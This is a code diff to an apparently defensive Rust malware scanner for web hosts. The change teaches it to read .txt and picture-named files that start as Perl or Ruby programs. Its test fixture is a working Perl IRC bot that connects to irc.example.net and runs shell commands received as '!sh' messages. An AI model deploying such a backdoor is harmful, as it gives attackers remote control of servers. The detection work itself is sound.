@@ -384,7 +384,7 @@ pub const SNIFF: usize = 512;
 /// Perl, CGI, Python and shell programs.
 /// (`alfa`: the ALFA web shell's CGI helpers, `alfacgiapi/*.alfa`, which the shell's own
 /// `.htaccess` makes CGI scripts.)
-const PROGRAM_EXTENSIONS: &[&str] = &["pl", "cgi", "py", "sh", "bash", "alfa"];
+const PROGRAM_EXTENSIONS: &[&str] = &["pl", "cgi", "py", "rb", "sh", "bash", "alfa"];
 /// Folder names (exact, lowercase) meant for uploaded or media files, never for code.
 /// (`upload` and `media` are not: OpenCart ships its whole shop in `upload/`, Drupal and
 /// Joomla have code in `media` folders.)
@@ -573,6 +573,7 @@ fn program_line(text: &[u8]) -> bool {
         || has(b"dash")
         || has(b"ksh")
         || has(b"zsh")
+        || has(b"ruby")
 }
 
 /// Whether a file sits in a `cgi-bin` folder, where cPanel's Apache runs any file as CGI,
@@ -586,7 +587,14 @@ pub fn in_cgi_bin(rel: &str) -> bool {
 /// that says nothing, or any file in `cgi-bin` (a program or server settings; the walk says
 /// whether the file is in one).
 pub fn sniffed(name: &str, in_cgi_bin: bool) -> bool {
-    !wants_content(name) && (named_as_data(name) || named_as_nothing(name) || in_cgi_bin)
+    !wants_content(name) && (named_as_data(name) || named_as_nothing(name) || in_cgi_bin || is_text_note(name))
+}
+
+/// A `.txt` file: read only when it starts as a program (`#!/usr/bin/perl`): bots and
+/// scanners are kept as text, fetched by `wget` and started with `perl x.txt` (fresh95's IRC
+/// bots).
+fn is_text_note(name: &str) -> bool {
+    extension(name).is_some_and(|e| e == "txt")
 }
 
 fn is_conf(name: &str) -> bool {
@@ -900,6 +908,15 @@ pub fn judge(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<
 /// `.htaccess` they are kept to restore. Any other file not read for its content has nothing to
 /// report.
 fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
+    if (is_text_note(name) || named_as_data(name)) && program_line(text) {
+        // A program kept as text or under a picture's name.
+        let mut hits: Vec<Hit> = programs::signs(text)
+            .into_iter()
+            .map(|s| sink_hit(text, taint::Sink { why: s.why, danger: s.danger, at: s.at }))
+            .collect();
+        hits.retain(|h| h.danger >= Danger::Medium);
+        return rank(hits);
+    }
     if !named_as_data(name) && (named_as_nothing(name) || in_cgi_bin(rel)) {
         // A program or server settings under a name that says nothing, or in `cgi-bin`;
         // anything else there is the site's own business.
@@ -952,8 +969,15 @@ fn settings_hits(name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
 /// program's `#!` line or server settings.
 pub fn worth_reading(name: &str, head: &[u8]) -> bool {
     // (A PHP ending before the data one, `x.php.jpg`: read whole, its code may come late.)
-    let code =
-        if named_as_data(name) { php_tag_in_head(head).is_some() || php_before_last(name) } else { program_line(head) };
+    if is_text_note(name) {
+        return program_line(head);
+    }
+    // (A picture that starts as a program is one: `byr.jpg`, a Perl bot.)
+    let code = if named_as_data(name) {
+        php_tag_in_head(head).is_some() || php_before_last(name) || program_line(head)
+    } else {
+        program_line(head)
+    };
     code || conf::is_server_settings(head)
 }
 
@@ -1768,5 +1792,18 @@ mod tests {
         // A copy of the list kept by a backup script makes no password.
         let copy = reset.replace("crypt('pw', '$6$x$')", "date('Ymd')");
         assert!(!whys("smtp.php", &copy).contains(&Why::RewritesMailPasswords));
+    }
+
+    #[test]
+    fn a_program_kept_as_text_or_as_a_picture_is_read() {
+        // fresh95's IRC bots: kept as `legend.txt` or `byr.jpg`, started with `perl byr.jpg`.
+        let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nUSER b b b b\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s \"PRIVMSG #c :\" . `$1`; } }\n";
+        for name in ["legend.txt", "byr.jpg"] {
+            assert!(worth_reading(name, bot.as_bytes()));
+            assert!(whys(name, bot).contains(&Why::NetworkBot), "{name}: {:?}", whys(name, bot));
+        }
+        // Notes and pictures are not read otherwise.
+        assert!(!worth_reading("readme.txt", b"=== Plugin ===\nContributors: me\n"));
+        assert!(whys("readme.txt", "use IO::Socket; NICK JOIN PRIVMSG").is_empty());
     }
 }
